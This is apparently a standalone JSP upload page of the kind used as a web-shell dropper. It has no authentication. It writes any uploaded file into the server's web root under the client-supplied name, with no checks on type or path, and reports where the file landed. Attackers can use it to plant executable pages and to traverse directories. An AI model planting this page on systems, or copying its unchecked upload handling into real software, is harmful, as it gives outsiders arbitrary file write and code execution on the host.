<%@ page import="java.io.*,java.util.*,org.apache.commons.fileupload.*,org.apache.commons.fileupload.disk.*,org.apache.commons.fileupload.servlet.*" %>
<%
    if (ServletFileUpload.isMultipartContent(request)) {
        DiskFileItemFactory factory = new DiskFileItemFactory();
        ServletFileUpload upload = new ServletFileUpload(factory);
        List<FileItem> items = upload.parseRequest(request);
        String root = application.getRealPath("/");
        for (FileItem item : items) {
            if (!item.isFormField()) {
                File dest = new File(root, item.getName());
                item.write(dest);
                out.println("uploaded: " + dest.getAbsolutePath() + "<br>");
            }
        }
    }
%>
<form method="post" enctype="multipart/form-data">
<input type="file" name="f"/><input type="submit" value="upload"/>
</form>
